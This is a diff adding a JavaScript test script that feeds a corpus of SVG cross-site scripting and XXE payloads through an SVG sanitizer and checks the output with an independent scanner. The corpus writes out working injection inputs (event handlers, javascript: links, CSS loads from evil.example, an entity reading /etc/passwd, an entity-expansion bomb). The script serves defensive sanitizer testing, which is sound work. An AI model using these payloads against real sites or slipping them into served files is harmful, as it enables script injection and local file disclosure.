@@ -0,0 +1,211 @@
+// Runs known SVG XSS / XXE payloads through sanitizeSVG(), on its own and
+// combined with optimization, and checks every output with an
+// independent scan for anything that could still run script or load another
+// resource. A payload that doesn't parse counts as neutralized: it would be
+// rejected rather than served. Exits 1 if any payload gets through, or if
+// the benign icons lose what they need to render. Also checks that a result
+// cached by an unsanitized run is never served to a sanitizing one.
+//
+//   node bench/xss-corpus.js
+import fs from "fs-extra";
+import os from "os";
+import path from "path";
+import { parseSvg } from "../lib/svgo-internals.js";
+import { sanitizeSVG, optimizeSVG, optimizeSVGFromFile, ResultCache } from "../lib/index.js";
+
+const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+const svg = (body, attrs = "") => `<svg ${NS}${attrs}>${body}</svg>`;
+
+const PAYLOADS = {
+  "script element": svg("<script>alert(1)</script>"),
+  "script in CDATA": svg("<script><![CDATA[alert(1)]]></script>"),
+  "external script": svg('<script xlink:href="https://evil.example/x.js"/>'),
+  "namespaced script": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg>`,
+  "script nested in title": svg("<title><script>alert(1)</script></title>"),
+  "onload on root": svg("", ' onload="alert(1)"'),
+  "uppercase handler": svg("", ' ONLOAD="alert(1)"'),
+  "onclick on path": svg('<path d="M0 0" onclick="alert(1)"/>'),
+  "onbegin on animate": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
+  "onfocusin with tabindex": svg('<rect width="9" height="9" tabindex="1" onfocusin="alert(1)"/>'),
+  "javascript: href": svg('<a href="javascript:alert(1)"><text>x</text></a>'),
+  "javascript: xlink:href": svg('<a xlink:href="javascript:alert(1)"><text>x</text></a>'),
+  "mixed-case scheme": svg('<a href="JaVaScRiPt:alert(1)"><text>x</text></a>'),
+  "entity-encoded scheme": svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>'),
+  "tab inside scheme": svg('<a href="java&#x09;script:alert(1)"><text>x</text></a>'),
+  "leading whitespace": svg('<a href="  javascript:alert(1)"><text>x</text></a>'),
+  "vbscript: href": svg('<a href="vbscript:msgbox(1)"><text>x</text></a>'),
+  "data:text/html link": svg('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;"><text>x</text></a>'),
+  "SMIL animate href": svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
+  "SMIL set handler": svg('<rect width="9" height="9"><set attributeName="onmouseover" to="alert(1)"/></rect>'),
+  "animateTransform": svg('<animateTransform attributeName="transform" type="rotate" from="0" to="1"/>'),
+  "foreignObject iframe": svg('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
+  "foreignObject HTML script": svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'),
+  "embed": svg('<embed src="https://evil.example/x.swf"/>'),
+  "object": svg('<object data="https://evil.example/x.html"/>'),
+  "iframe": svg('<iframe src="https://evil.example/"/>'),
+  "XML Events handler": svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
+  "use of remote sprite": svg('<use href="https://evil.example/x.svg#a"/>'),
+  "use of data: SVG": svg('<use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+#x"/>'),
+  "use of relative file": svg('<use xlink:href="other.svg#a"/>'),
+  "remote image (tracking)": svg('<image href="https://evil.example/pixel.png" width="1" height="1"/>'),
+  "javascript: image": svg('<image href="javascript:alert(1)"/>'),
+  "data: SVG image": svg('<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>'),
+  "remote feImage": svg('<filter id="f"><feImage xlink:href="https://evil.example/x.png"/></filter>'),
+  "remote paint server": svg('<path d="M0 0" fill="url(https://evil.example/p.svg#g)"/>'),
+  "style @import": svg("<style>@import url(https://evil.example/x.css);</style>"),
+  "style @import string": svg('<style>@import "https://evil.example/x.css";</style>'),
+  "style url(javascript:)": svg("<style>svg { background: url(javascript:alert(1)) }</style>"),
+  "style behavior": svg("<style>* { behavior: url(x.htc) }</style>"),
+  "style expression()": svg("<style>* { width: expression(alert(1)) }</style>"),
+  "style attribute remote url": svg('<rect style="fill: url(https://evil.example/p.svg#g)"/>'),
+  "style attribute -moz-binding": svg('<rect style="-moz-binding: url(https://evil.example/x.xml#x)"/>'),
+  "escaped url() in style": svg("<style>rect{fill:\\75 rl(https://evil.example/p.svg#g)}</style>"),
+  "escaped @import": svg('<style>@\\69mport "https://evil.example/x.css";</style>'),
+  "escaped scheme in url()": svg("<style>svg{background:url(java\\73 cript:alert(1))}</style>"),
+  "image-set() string": svg('<style>svg{background:image-set("https://evil.example/a.png" 1x)}</style>'),
+  "cross-fade() string": svg('<style>svg{background:cross-fade("https://evil.example/a.png", url(#g))}</style>'),
+  "escaped url() in style attribute": svg('<rect style="fill:\\75 rl(https://evil.example/p.svg#g)"/>'),
+  "escaped url() in fill": svg('<rect fill="\\75 rl(https://evil.example/p.svg#g)"/>'),
+  "xml:base hijack": svg('<a xml:base="javascript:alert(1)//" href="x"><text>x</text></a>'),
+  "xml-stylesheet PI": `<?xml-stylesheet href="https://evil.example/x.css"?>${svg("")}`,
+  "XSLT PI": `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>${svg("")}`,
+  "XXE system entity": `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${svg("<text>&xxe;</text>")}`,
+  "XXE public entity": `<!DOCTYPE svg [<!ENTITY xxe PUBLIC "-//X//EN" "https://evil.example/x.dtd">]>${svg("<text>&xxe;</text>")}`,
+  "entity expanding to markup": `<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>${svg("<text>&x;</text>")}`,
+  "entity in attribute": `<!DOCTYPE svg [<!ENTITY h "javascript:alert(1)">]>${svg('<a href="&h;"><text>x</text></a>')}`,
+  "billion laughs": `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${svg("<text>&c;</text>")}`,
+  "unquoted attribute (not XML)": "<svg onload=alert(1)>",
+};
+
+// Must keep working after sanitizing: gradients, local <use>, links, raster
+// images, class-based <style>
+const BENIGN = {
+  "gradient icon": svg(
+    '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs><path d="M0 0h9v9z" fill="url(#g)"/>',
+    ' viewBox="0 0 9 9"'
+  ),
+  "local use": svg('<symbol id="s"><circle r="4"/></symbol><use href="#s" xlink:href="#s"/>', ' viewBox="0 0 9 9"'),
+  "link": svg('<a xlink:href="https://example.com/"><text>x</text></a>'),
+  "embedded PNG": svg('<image href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>'),
+  "styled classes": svg('<style>.a { fill: #00f }</style><rect class="a" width="9" height="9"/>'),
+  "escaped CSS": svg('<style>.\\31 a { fill: #00f }</style><rect class="1a" width="9" height="9"/>'),
+};
+const REQUIRED = {
+  "gradient icon": ['fill="url(#g)"', "linearGradient"],
+  "local use": ['href="#s"'],
+  "link": ['xlink:href="https://example.com/"'],
+  "embedded PNG": ["data:image/png"],
+  "styled classes": [".a", "class="],
+  "escaped CSS": [".\\31 a", "class="],
+};
+
+const UNSAFE_ELEMENTS = /^(.*:)?(script|foreignObject|iframe|embed|object|handler|listener|animate|animateMotion|animateTransform|set|discard)$/i;
+const SCRIPT_SCHEME = /^(javascript|vbscript|data:text\/html)/i;
+const compact = (value) => value.replace(/[\u0000- ]/g, "");
+// CSS escapes decoded ("\75 rl(" is "url(")
+const unescapeCSS = (css) =>
+  css
+    .replace(/\\([0-9a-f]{1,6})[ \t\n\r\f]?/gi, (_, hex) => String.fromCodePoint(Math.min(parseInt(hex, 16), 0x10ffff)))
+    .replace(/\\([\s\S])/g, "$1");
+const localOrRaster = (url) =>
+  url === "" || url.startsWith("#") || /^data:image\/(png|jpe?g|gif|webp|avif|bmp);/i.test(url);
+
+// url()s, and strings in image-set()/cross-fade()/src(), that load something
+function externalLoads(css) {
+  const loads = [...css.matchAll(/url\(\s*(['"]?)(.*?)\1\s*\)/gi)].map(([, , target]) => target);
+  for (const [, args] of css.matchAll(/(?:image-set|cross-fade|src)\(([^;}]*)/gi)) {
+    loads.push(...[...args.matchAll(/(['"])(.*?)\1/g)].map(([, , target]) => target));
+  }
+  return loads.filter((target) => !localOrRaster(compact(target)));
+}
+
+// Everything still dangerous in an output, independently of lib/sanitize.js
+function findUnsafe(output) {
+  const problems = [];
+  if (/<!DOCTYPE|<!ENTITY/i.test(output)) problems.push("DOCTYPE");
+  if (/<\?xml-stylesheet/i.test(output)) problems.push("xml-stylesheet");
+  const walk = (node) => {
+    for (const child of node.children || []) {
+      if (child.type !== "element") continue;
+      if (UNSAFE_ELEMENTS.test(child.name)) problems.push(`<${child.name}>`);
+      for (const [name, value] of Object.entries(child.attributes)) {
+        const url = compact(value);
+        if (/^on/i.test(name)) problems.push(`${name}=`);
+        if (name === "xml:base") problems.push("xml:base");
+        if (SCRIPT_SCHEME.test(url)) problems.push(`${name}="${value}"`);
+        if (/href$/.test(name) && !localOrRaster(url) && !(child.name === "a" && /^(https?|mailto):/i.test(url))) {
+          problems.push(`${name}="${value}"`);
+        }
+        const css = unescapeCSS(value);
+        for (const target of externalLoads(css)) problems.push(`url(${target})`);
+        if (name === "style" && /expression|behavio|binding|@import/i.test(css)) problems.push(`style="${value}"`);
+      }
+      if (child.name === "style") {
+        const css = unescapeCSS(child.children.map((c) => c.value || "").join(""));
+        if (/@import|expression|behavio|binding|javascript:/i.test(css)) problems.push(`<style>${css}`);
+        for (const target of externalLoads(css)) problems.push(`url(${target}) in <style>`);
+      }
+      walk(child);
+    }
+  };
+  walk(parseSvg(output));
+  return problems;
+}
+
+const MODES = {
+  sanitize: (input) => sanitizeSVG(input).data,
+  "sanitize+optimize": (input) => optimizeSVG(input, { sanitize: true }).data,
+};
+
+let failures = 0;
+const rows = [];
+for (const [name, input] of Object.entries(PAYLOADS)) {
+  const row = { payload: name };
+  for (const [mode, run] of Object.entries(MODES)) {
+    let output;
+    try {
+      output = run(input);
+    } catch {
+      row[mode] = "rejected";
+      continue;
+    }
+    const problems = findUnsafe(output);
+    row[mode] = problems.length ? `UNSAFE: ${problems.join(", ")}` : "neutralized";
+    if (problems.length) failures++;
+  }
+  rows.push(row);
+}
+for (const [name, input] of Object.entries(BENIGN)) {
+  const row = { payload: `(benign) ${name}` };
+  for (const [mode, run] of Object.entries(MODES)) {
+    const output = run(input);
+    const missing = REQUIRED[name].filter((needle) => !output.includes(needle));
+    row[mode] = missing.length ? `BROKEN: lost ${missing.join(", ")}` : "kept";
+    if (missing.length) failures++;
+  }
+  rows.push(row);
+}
+
+const cacheDir = await fs.mkdtemp(path.join(os.tmpdir(), "svg-power-opt-xss-"));
+try {
+  const cache = new ResultCache({ dir: path.join(cacheDir, "cache") });
+  const file = path.join(cacheDir, "payload.svg");
+  await fs.writeFile(file, svg("<script>alert(1)</script>", ' onload="alert(1)"'));
+  await optimizeSVGFromFile(file, { cache });
+  const problems = findUnsafe(await optimizeSVGFromFile(file, { cache, sanitize: true }));
+  rows.push({
+    payload: "cached unsanitized, then sanitized",
+    "sanitize+optimize": problems.length ? `UNSAFE: ${problems.join(", ")}` : "neutralized",
+  });
+  if (problems.length) failures++;
+} finally {
+  await fs.remove(cacheDir);
+}
+
+console.table(rows);
+console.log(
+  failures
+    ? `✖ ${failures} failure(s)`
+    : `✔ All ${Object.keys(PAYLOADS).length} payloads neutralized; ${Object.keys(BENIGN).length} benign icons intact`
+);
+process.exitCode = failures ? 1 : 0;